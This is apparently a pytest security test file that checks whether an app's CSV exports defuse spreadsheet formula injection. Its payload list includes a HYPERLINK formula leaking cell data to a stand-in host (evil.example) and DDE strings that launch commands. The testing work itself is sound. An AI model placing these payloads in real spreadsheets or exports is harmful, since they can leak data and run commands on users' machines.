"""Attack 2: every CSV the app writes (graph export, the gallery's table CSV, the evaluation export) writes a cell
that a spreadsheet would run as a formula as text instead."""
import csv
import io

from core.eval.report import results_csv
from core.library import open_library
from core.schema.eval import QuestionResult
from core.schema.graph import GraphEdge, GraphNode
from core.text import tables
from core.text.csv_safe import csv_cell
from tests.security.helpers import cli, snapshot, workspace

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _is_formula(cell: str) -> bool:
    return cell.lstrip(" ")[:1] in ("=", "+", "-", "@", "\t", "\r")


def test_cli_graph_csv_export_writes_formulas_as_text(tmp_path):
    ws = workspace(tmp_path / "ws")
    lib = open_library(ws)
    nodes = [GraphNode(key=f"n{i}", name=f, type="concept", description=f, doc_ids=["d"]) for i, f in
             enumerate(FORMULAS)]
    edges = [GraphEdge(source="n0", target="n1", relation="RELATED", description=FORMULAS[2],
                       keywords=FORMULAS[3], weight=-1.5)]
    lib.graph.apply(upsert_nodes=nodes, upsert_edges=edges)
    before = snapshot(ws.root)

    out = cli(ws.root, "graph", "export", "--format", "csv", "--out", str(tmp_path / "g.csv"))

    assert out.returncode == 0, out.stderr
    rows = list(csv.DictReader(io.StringIO((tmp_path / "g.csv").read_bytes().decode("utf-8"), newline="")))
    edge_rows = list(csv.DictReader(io.StringIO((tmp_path / "g.edges.csv").read_bytes().decode("utf-8"), newline="")))
    cells = [v for row in rows + edge_rows for v in row.values()]
    assert not [c for c in cells if _is_formula(c) and c != "-1.5"], cells
    assert {r["name"] for r in rows} == {"'" + f for f in FORMULAS}  # kept whole, marked as text
    assert edge_rows[0]["weight"] == "-1.5"  # a number stays a number
    assert snapshot(ws.root) == before


def test_gallery_table_csv_writes_formulas_as_text():
    table = ("<table><tr><td>=cmd|' /C calc'!A0</td><td>@SUM(A1)</td></tr>"
             "<tr><td>+1+1</td><td>-0.5</td></tr></table>")
    text = tables.table_csv(table)  # what the Gallery's "Download CSV" button serves
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert cells == ["'=cmd|' /C calc'!A0", "'@SUM(A1)", "'+1+1", "-0.5"], cells


def test_evaluation_export_uses_the_same_helper():
    result = QuestionResult(question_id="=1+1", mode="naive", answer="@SUM(A1)", contexts=[], retrieved_chunk_ids=[],
                            scores={}, seconds=1.0, error="-2+3")
    row = list(csv.reader(io.StringIO(results_csv([result]))))[1]
    assert row[:3] == ["'=1+1", "naive", "'@SUM(A1)"] and row[5] == "'-2+3"
    assert [csv_cell(v) for v in ("-3.5", "+2e3", "12%", 7, None)] == ["-3.5", "+2e3", "12%", 7, None]
